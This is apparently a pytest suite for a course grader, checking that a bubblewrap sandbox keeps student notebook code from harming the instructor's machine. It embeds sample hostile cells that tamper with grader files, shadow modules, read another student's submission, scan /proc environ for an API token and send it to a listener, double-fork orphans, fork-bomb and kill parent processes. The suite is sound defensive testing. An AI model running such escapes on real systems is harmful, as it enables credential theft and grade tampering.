"""Student code cannot harm the instructor's machine (issue 10).

Under bubblewrap, every escape the issue lists fails — each attempted from an exercise
cell during a class grade, then checked from outside:

- writing the package (``course_lib/grade/judge.py``, a new check module);
- shadowing a module (``json.py`` at the project root, in the working folder);
- an orphan (double fork + ``setsid``) that outlives grading and rewrites ``--json``;
- reading or overwriting another student's submission, listing the class folder;
- the environment: an ``LMS_API_TOKEN`` of the instructor's, ``/proc/*/environ``;
- the network (a listener on 127.0.0.1);
- ``$HOME``, ``/tmp`` and ``/dev/shm`` (nothing outlives the exercise);

plus the limits (memory, file size, processes, CPU time), signals (SIGINT, SIGTERM,
SIGHUP kill every worker and remove temporary folders; so does SIGKILL of the grader), the fallback without bubblewrap
(one line at the top; a class refused unless ``--allow-unsandboxed``) and a malformed
``COURSE_GRADE_MEMORY_GB``.

CI installs bubblewrap; there (``REQUIRE_BWRAP=1``) a missing sandbox fails these tests
instead of skipping them.
"""
from __future__ import annotations

import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest
from grader_helpers import CHECKS, RIGHT, ROOT, bubblewrap_problem, make_notebook

from course_lib.grade.registry import load_checks
from course_lib.grade.runner import grade_path

PROBLEM = bubblewrap_problem()
if PROBLEM and os.environ.get("REQUIRE_BWRAP") == "1":
    raise RuntimeError(f"REQUIRE_BWRAP=1 but {PROBLEM}")
needs_bwrap = pytest.mark.skipif(bool(PROBLEM), reason=PROBLEM or "")
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

ESCAPES = '''
import glob, json, os, socket, sys
HOST = json.loads({host!r})
report = {{}}
def attempt(name, action):
    try:
        action()
        report[name] = "ok"
    except BaseException as exc:
        report[name] = f"{{type(exc).__name__}}: {{exc}}"
def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
import course_lib.grade.judge as judge
attempt("append_judge_host", lambda: write(HOST["judge"], "\\nPWNED = 1\\n", "a"))
attempt("append_judge_seen", lambda: write(judge.__file__, "\\nPWNED = 1\\n", "a"))
attempt("new_check_module", lambda: write(os.path.join(os.path.dirname(judge.__file__), "checks", "nb99_pwned.py"), "x = 1"))
attempt("json_at_project_root", lambda: write(os.path.join(HOST["project"], "json.py"), "raise SystemExit('shadowed')"))
attempt("json_in_cwd", lambda: write("json.py", "raise SystemExit('shadowed')"))
attempt("json_beside_course_lib", lambda: write(os.path.join(os.path.dirname(os.path.dirname(judge.__file__)), "..", "zipfile.py"), "x"))
attempt("write_root", lambda: write("/planted.py", "x"))
attempt("read_other", lambda: open(HOST["other"]).read())
attempt("write_other", lambda: write(HOST["other"], "garbage"))
attempt("list_class", lambda: os.listdir(HOST["class"]))
attempt("write_home", lambda: write(HOST["home_marker"], "x"))
attempt("write_bashrc", lambda: write(os.path.expanduser("~/.bashrc"), "echo pwned\\n", "a"))
attempt("write_output", lambda: write(HOST["output"], "{{}}"))
attempt("write_cache", lambda: write(os.path.join(HOST["cache"], "planted.pt"), "x"))
report["env_keys"] = sorted(os.environ)
report["token_in_env"] = any(HOST["token"] in v for v in os.environ.values())
blobs = []
for path in glob.glob("/proc/*/environ"):
    try:
        blobs.append(open(path, "rb").read())
    except OSError:
        pass
report["token_in_proc"] = HOST["token"].encode() in b"".join(blobs)
attempt("connect_listener", lambda: socket.create_connection(("127.0.0.1", HOST["port"]), timeout=2).sendall(HOST["token"].encode()))
attempt("connect_outside", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2))
attempt("write_tmp", lambda: write("/tmp/" + HOST["marker"], "x"))
attempt("write_shm", lambda: write("/dev/shm/" + HOST["marker"], "x"))
print("REPORT" + json.dumps(report), flush=True)
def double(x):
    return x * SCALE
'''

AFTERWARDS = '''
import json, os
print("LATER" + json.dumps({{"tmp": sorted(os.listdir("/tmp")), "shm": sorted(os.listdir("/dev/shm")),
                            "json_ok": hasattr(json, "dumps"), "cwd": sorted(os.listdir("."))}}), flush=True)
def clip(xs, lo, hi):
    return [min(max(x, lo), hi) for x in xs]
'''

ALLOWED_ENV = {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "COURSE_PRESET", "COURSE_CACHE",
               "COURSE_RESULTS_DIR", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS",
               "NUMEXPR_NUM_THREADS", "MPLBACKEND", "MPLCONFIGDIR", "XDG_CACHE_HOME",
               "PYTHONIOENCODING", "PYTHONDONTWRITEBYTECODE", "COURSE_GRADE_WORKER", "PWD"}


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _parse(output: str, key: str) -> dict:
    line = next(line for line in output.splitlines() if line.startswith(key))
    return json.loads(line[len(key):])


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(1000) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def escape_run(tmp_path_factory):
    """A class of two: ``attacker`` tries every escape in extest.1 and looks around in
    extest.2; ``victim`` (graded after it, on the same single lane) hands in wrong answers."""
    folder = tmp_path_factory.mktemp("escape") / "class"
    marker = f"course-grade-escape-{uuid.uuid4().hex[:8]}"
    token = f"secret-{uuid.uuid4().hex}"
    victim = make_notebook(folder / "victim" / "extest.ipynb", {
        "extest.1": "def double(x):\n    return x + 2", "extest.3": "def mean(xs):\n    return xs[0]"})
    output = folder.parent / "grades.json"
    output.write_text("{}")
    judge_file = ROOT / "course_lib" / "grade" / "judge.py"
    cache = folder.parent / "instructor-cache"
    cache.mkdir()
    listener = Listener()
    host = {"judge": str(judge_file), "project": str(ROOT), "other": str(victim), "class": str(folder),
            "home_marker": str(Path.home() / f".{marker}"), "output": str(output), "cache": str(cache),
            "token": token, "port": listener.port, "marker": marker}
    make_notebook(folder / "attacker" / "extest.ipynb", {
        "extest.1": ESCAPES.format(host=json.dumps(host)), "extest.2": AFTERWARDS.format()})
    before = {"judge": _sha(judge_file), "victim": _sha(victim), "output": output.read_text()}
    old_token = os.environ.get("LMS_API_TOKEN")
    os.environ["LMS_API_TOKEN"] = token      # the instructor's secret, in the grader's environment
    try:
        grading = grade_path(folder, checks=load_checks([CHECKS]), workers=1, sandbox="bwrap")
    finally:
        if old_token is None:
            os.environ.pop("LMS_API_TOKEN", None)
        else:
            os.environ["LMS_API_TOKEN"] = old_token
        time.sleep(0.5)
        listener.close()
    results = {s: {r.id: r for r in rep.results} for s, rep in grading.reports.items()}
    yield {"results": results, "host": host, "before": before, "listener": listener,
           "report": _parse(results["attacker"]["extest.1"].output, "REPORT"),
           "later": _parse(results["attacker"]["extest.2"].output, "LATER")}
    Path(host["home_marker"]).unlink(missing_ok=True)   # only there if the sandbox failed


@needs_bwrap
def test_the_escaping_student_is_still_graded(escape_run):
    got = {i: r.status for i, r in escape_run["results"]["attacker"].items()}
    assert got == {"extest.1": "passed", "extest.2": "passed", "extest.3": "passed"}


@needs_bwrap
def test_cannot_write_the_package(escape_run):
    report = escape_run["report"]
    for attempt in ("append_judge_host", "append_judge_seen", "new_check_module"):
        assert report[attempt] != "ok", attempt
    assert _sha(Path(escape_run["host"]["judge"])) == escape_run["before"]["judge"]
    assert not (ROOT / "course_lib" / "grade" / "checks" / "nb99_pwned.py").exists()
    # ...and every later exercise is judged as before: the victim's wrong answers fail.
    victim = escape_run["results"]["victim"]
    assert (victim["extest.1"].points, victim["extest.3"].points) == (0, 0)


@needs_bwrap
def test_cannot_shadow_a_module(escape_run):
    for attempt in ("json_at_project_root", "json_beside_course_lib", "write_root"):
        assert escape_run["report"][attempt] != "ok", attempt
    assert not (ROOT / "json.py").exists()
    later = escape_run["later"]
    assert later["json_ok"] and "json.py" not in later["cwd"]   # a fresh folder each exercise


@needs_bwrap
def test_cannot_read_or_write_another_students_submission(escape_run):
    report = escape_run["report"]
    assert report["read_other"].startswith("FileNotFoundError")
    assert report["write_other"] != "ok" and report["list_class"] != "ok"
    assert _sha(Path(escape_run["host"]["other"])) == escape_run["before"]["victim"]


@needs_bwrap
def test_cannot_write_home_output_or_cache(escape_run):
    report, host = escape_run["report"], escape_run["host"]
    for attempt in ("write_home", "write_output", "write_cache"):
        assert report[attempt] != "ok", attempt
    assert report["write_bashrc"] == "ok"         # its own HOME, inside the sandbox...
    assert not Path(host["home_marker"]).exists()  # ...never the instructor's
    assert Path(host["output"]).read_text() == escape_run["before"]["output"]
    assert not any(Path(host["cache"]).iterdir())


@needs_bwrap
def test_the_environment_is_scrubbed(escape_run):
    report = escape_run["report"]
    assert not report["token_in_env"] and not report["token_in_proc"]
    assert set(report["env_keys"]) <= ALLOWED_ENV, set(report["env_keys"]) - ALLOWED_ENV
    token = escape_run["host"]["token"]
    assert all(token not in r.output for r in escape_run["results"]["attacker"].values() if "REPORT" not in r.output)


@needs_bwrap
def test_no_network(escape_run):
    report = escape_run["report"]
    assert report["connect_listener"] != "ok" and report["connect_outside"] != "ok"
    assert escape_run["listener"].received == []


@needs_bwrap
def test_tmp_and_shm_are_private_and_emptied(escape_run):
    report, marker = escape_run["report"], escape_run["host"]["marker"]
    assert report["write_tmp"] == "ok" and report["write_shm"] == "ok"   # allowed, in the sandbox
    assert not Path("/tmp", marker).exists() and not Path("/dev/shm", marker).exists()
    later = escape_run["later"]
    assert marker not in later["tmp"] and marker not in later["shm"]     # gone before the next exercise


# --- processes --------------------------------------------------------------------------------

ORPHAN = '''
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)
        try:
            with open({output!r}, "w") as f:
                f.write('{{"students": {{"orphan": {{"total": 6.0}}}}}}')
        except OSError:
            pass
        os.execv("/bin/sleep", ["sleep", "{seconds}"])
    os._exit(0)
def double(x):
    return x + 2
'''


def _running(pattern: str) -> list[str]:
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if pattern in line and "ps -eo" not in line]


def _cli(*args, env=None, **kwargs):
    return subprocess.run([sys.executable, "-m", "course_lib.grade", *map(str, args)],
                          capture_output=True, text=True, cwd=ROOT, timeout=600,
                          env={**os.environ, **(env or {})}, **kwargs)


@pytest.mark.parametrize("sandbox", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_an_orphan_cannot_outlive_grading_nor_rewrite_the_results(tmp_path, sandbox):
    seconds = f"{300 + uuid.uuid4().int % 1000}.{os.getpid() % 97}"
    output = tmp_path / "out" / "grades.json"
    folder = tmp_path / "class"
    make_notebook(folder / "orphan" / "extest.ipynb", {"extest.1": ORPHAN.format(output=str(output),
                                                                                  seconds=seconds)})
    make_notebook(folder / "honest" / "extest.ipynb")
    proc = _cli(folder, "--checks", CHECKS, "--json", output, "--workers", "1", "--sandbox", sandbox,
                "--allow-unsandboxed")
    assert proc.returncode == 0, proc.stderr
    written = output.read_text()
    assert json.loads(written)["students"]["orphan"]["total"] == 4.0
    time.sleep(3.5)
    assert output.read_text() == written
    assert _running(f"sleep {seconds}") == []


FORK_BOMB = '''
import os, time
def double(x):
    for _ in range(300):
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "{seconds}"])
    time.sleep(2)
    return x * SCALE
'''

LIMITS = '''
import json, resource
limits = {{name: resource.getrlimit(getattr(resource, name))[0]
          for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_CORE")}}
try:
    big = bytearray(20 * 2**30)
    limits["alloc"] = "ok"
except MemoryError:
    limits["alloc"] = "MemoryError"
try:
    with open("big.bin", "wb") as f:
        f.write(b"0" * (300 * 2**20))
    limits["file"] = "ok"
except OSError as exc:
    limits["file"] = type(exc).__name__
print("LIMITS" + json.dumps(limits), flush=True)
def mean(xs):
    return sum(xs) / len(xs)
'''


@needs_bwrap
def test_limits_on_memory_cpu_file_size_and_processes(tmp_path):
    seconds = f"{300 + uuid.uuid4().int % 1000}.{os.getpid() % 89}"
    nb = make_notebook(tmp_path / "extest.ipynb", {"extest.1": FORK_BOMB.format(seconds=seconds),
                                                   "extest.3": LIMITS.format()})
    grading = grade_path(nb, checks=load_checks([CHECKS]), workers=2, sandbox="bwrap")
    results = {r.id: r for r in next(iter(grading.reports.values())).results}
    bomb = results["extest.1"]
    assert bomb.points == 0 and bomb.status == "error"
    assert "processes" in bomb.message or "BlockingIOError" in bomb.message, bomb.message
    assert _running(f"sleep {seconds}") == []
    limits = _parse(results["extest.3"].output, "LIMITS")
    assert limits["RLIMIT_AS"] == 8 * 2**30 and limits["alloc"] == "MemoryError"
    assert limits["RLIMIT_FSIZE"] == 256 * 2**20 and limits["file"] == "OSError"
    assert 0 < limits["RLIMIT_CPU"] <= 2 * 20 + 30 and limits["RLIMIT_CORE"] == 0
    assert results["extest.3"].status == "passed" and results["extest.2"].status == "passed"


LOOP = '''
import subprocess
subprocess.Popen(["sleep", "{seconds}"])
def double(x):
    while True:
        pass
'''


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGKILL])
@pytest.mark.parametrize("sandbox", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_a_signal_stops_every_worker_and_removes_temporary_folders(tmp_path, sandbox, signum):
    seconds = f"{300 + uuid.uuid4().int % 1000}.{os.getpid() % 83}"
    folder = tmp_path / "class"
    for student in ("ann", "ben"):
        make_notebook(folder / student / "extest.ipynb", {"extest.1": LOOP.format(seconds=seconds)})
    temp_before = set(Path("/tmp").glob("course-grade-*"))
    proc = subprocess.Popen([sys.executable, "-m", "course_lib.grade", str(folder), "--checks", str(CHECKS),
                             "--sandbox", sandbox, "--allow-unsandboxed", "--json", str(tmp_path / "g.json")],
                            cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while not _running(f"sleep {seconds}") and time.monotonic() < deadline:
        time.sleep(0.2)
    assert _running(f"sleep {seconds}"), "the looping exercises never started"
    proc.send_signal(signum)
    try:
        _, err = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        raise
    if signum == signal.SIGKILL:   # no clean-up of its own: the sandbox dies with it
        assert proc.returncode == -signal.SIGKILL
    else:
        assert proc.returncode == 128 + signum, err
        assert "interrupted" in err and "Traceback" not in err
    time.sleep(1.0)
    assert _running(f"sleep {seconds}") == []
    assert set(Path("/tmp").glob("course-grade-*")) <= temp_before
    assert not (tmp_path / "g.json").exists()


# --- without bubblewrap ------------------------------------------------------------------------

def test_a_class_without_the_sandbox_is_refused_unless_allowed(tmp_path):
    folder = tmp_path / "class"
    make_notebook(folder / "ann" / "extest.ipynb")
    make_notebook(folder / "ben" / "extest.ipynb")
    refused = _cli(folder, "--checks", CHECKS, "--sandbox", "none")
    assert refused.returncode == 2
    assert "apt-get install bubblewrap" in refused.stderr and "--allow-unsandboxed" in refused.stderr
    allowed = _cli(folder, "--checks", CHECKS, "--sandbox", "none", "--allow-unsandboxed")
    assert allowed.returncode == 0, allowed.stderr
    assert allowed.stdout.splitlines()[0].startswith("student code runs WITHOUT the OS sandbox")
    assert "Class summary" in allowed.stdout


def test_one_notebook_never_needs_the_sandbox(tmp_path):
    nb = make_notebook(tmp_path / "extest.ipynb")
    proc = _cli(nb, "--checks", CHECKS, "--sandbox", "none")
    assert proc.returncode == 0, proc.stderr
    first, *rest = proc.stdout.splitlines()
    assert first.startswith("student code runs WITHOUT the OS sandbox")
    assert sum("WITHOUT" in line for line in rest) == 0 and "Total: 6/6 (100%)" in proc.stdout


def test_the_fallback_still_scrubs_the_environment(tmp_path):
    token = f"secret-{uuid.uuid4().hex}"
    nb = make_notebook(tmp_path / "extest.ipynb", {"extest.1": (
        "import os\nprint('ENV', sorted(os.environ), any('" + token + "' in v for v in os.environ.values()))\n"
        + RIGHT["extest.1"])})
    old = os.environ.get("LMS_API_TOKEN")
    os.environ["LMS_API_TOKEN"] = token
    try:
        grading = grade_path(nb, checks=load_checks([CHECKS]), sandbox="none")
    finally:
        os.environ.pop("LMS_API_TOKEN") if old is None else os.environ.__setitem__("LMS_API_TOKEN", old)
    result = next(iter(grading.reports.values())).results[0]
    assert result.status == "passed" and token not in result.output
    assert "False" in result.output and "LMS_API_TOKEN" not in result.output


@pytest.mark.parametrize("value", ["4GB", "lots", "-1", "nan", "2"])
def test_a_malformed_memory_limit_is_an_error(tmp_path, value):
    nb = make_notebook(tmp_path / "extest.ipynb")
    proc = _cli(nb, "--checks", CHECKS, env={"COURSE_GRADE_MEMORY_GB": value})
    assert proc.returncode == 2
    assert proc.stderr.startswith("error: COURSE_GRADE_MEMORY_GB=") and "Traceback" not in proc.stderr


KILL_THE_ZYGOTE = '''
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
def double(x):
    return x * SCALE
'''


@pytest.mark.parametrize("sandbox", [pytest.param("bwrap", marks=needs_bwrap), "none"])
def test_killing_the_warm_process_costs_at_most_that_exercise(tmp_path, sandbox):
    folder = tmp_path / "class"
    make_notebook(folder / "a_killer" / "extest.ipynb", {"extest.1": KILL_THE_ZYGOTE})
    make_notebook(folder / "b_next" / "extest.ipynb")
    grading = grade_path(folder, checks=load_checks([CHECKS]), workers=1, sandbox=sandbox,
                         allow_unsandboxed=True)
    killer = {r.id: r for r in grading.reports["a_killer"].results}
    if sandbox == "bwrap":   # PID 1 of the namespace ignores signals from inside it
        assert killer["extest.1"].status == "passed"
    else:
        assert killer["extest.1"].status == "error" and killer["extest.1"].points == 0
    assert (killer["extest.2"].status, killer["extest.3"].status) == ("passed", "passed")
    assert grading.reports["b_next"].total == 6


def test_removing_a_workers_folder_never_changes_a_linked_files_permissions(tmp_path, monkeypatch):
    """The clean-up of a worker's temporary folder (the judge's, without bubblewrap) retries
    what it could not delete after making it writable, but never chmods through a link to
    one of the instructor's files."""
    from course_lib.fileio import remove_tree

    precious = tmp_path / "instructor.txt"
    precious.write_text("grades")
    precious.chmod(0o400)
    worker = tmp_path / "worker" / "locked"
    worker.mkdir(parents=True)
    (worker / "link").symlink_to(precious)
    real_unlink, refused = os.unlink, []

    def unlink(path, *args, **kwargs):   # the first try fails, as in a read-only folder
        if os.path.basename(path) == "link" and not refused:
            refused.append(path)
            raise PermissionError(13, "Permission denied", path)
        return real_unlink(path, *args, **kwargs)

    monkeypatch.setattr(os, "unlink", unlink)
    remove_tree(tmp_path / "worker")
    assert refused and not (tmp_path / "worker").exists()
    assert precious.read_text() == "grades" and (precious.stat().st_mode & 0o777) == 0o400
